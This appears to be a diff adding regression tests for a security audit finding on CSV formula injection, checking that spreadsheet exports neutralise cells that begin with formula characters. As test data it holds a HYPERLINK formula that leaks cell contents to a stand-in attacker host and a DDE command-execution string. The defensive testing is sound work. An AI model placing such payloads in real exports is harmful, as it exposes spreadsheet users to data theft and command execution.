@@ -247,3 +247,70 @@ def test_finding_11_extreme_departure_of_a_movement_answers_422(client):
         )
         assert answer.status_code == 422, answer.content
         assert answer.json()["detail"][0]["field"] == "depart"
+
+
+# Finding 14: CSV exports carry spreadsheet formulas -------------------------------------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
+
+
+def test_finding_14_csv_cells_are_neutralised_as_owasp_recommends_numbers_stay_numbers():
+    import csv
+    import io
+
+    from parley.engines import csvsafe
+
+    assert csvsafe.safe_row([FORMULA, "+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx", "plain"]) == [
+        "'" + FORMULA,
+        "'+1+2",
+        "'-2+3",
+        "'@SUM(A1)",
+        "'\tx",
+        "'\rx",
+        "plain",
+    ]
+    # Negative numbers, as numbers or as the text of a number, stay numbers.
+    assert csvsafe.safe_row([-35.2, "-35.2", "+4", "-1e-3", 0, None, ""]) == [
+        -35.2,
+        "-35.2",
+        "+4",
+        "-1e-3",
+        0,
+        None,
+        "",
+    ]
+    buffer = io.StringIO()
+    csvsafe.writer(buffer, lineterminator="\n").writerows([["a", "=1+1"], [-1, "b"]])
+    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [["a", "'=1+1"], ["-1", "b"]]
+
+
+def test_finding_14_events_csv_neutralises_formulas_from_incident_fields(client, monitoring_people):
+    import csv
+    import io
+
+    people = monitoring_people
+    api = as_user(client, people.monitor_user)
+    item = {
+        "id": "f-1",
+        "lat": 47.6380,
+        "lon": 35.2070,
+        "time": "2026-03-01T11:00:00+02:00",
+        "precision_m": 0,
+        "type": FORMULA,
+    }
+    assert (
+        api.post(
+            "/api/monitoring/incidents",
+            {"source": "-cmd|' /C calc'!A0", "incidents": [item]},
+            content_type=JSON,
+        ).status_code
+        == 201
+    )
+    for path in ("/api/monitoring/events.csv", "/monitoring/events.csv"):
+        text = api.get(path).content.decode()
+        rows = list(csv.DictReader(io.StringIO(text)))
+        [event] = rows[1:]  # the first row under the header is HXL's hashtags
+        assert event["types"] == "'" + FORMULA
+        assert event["sources"] == "'-cmd|' /C calc'!A0"
+        assert float(event["lat"]) == pytest.approx(47.638)
+        assert not any(value.startswith(("=", "+", "@")) for value in event.values())
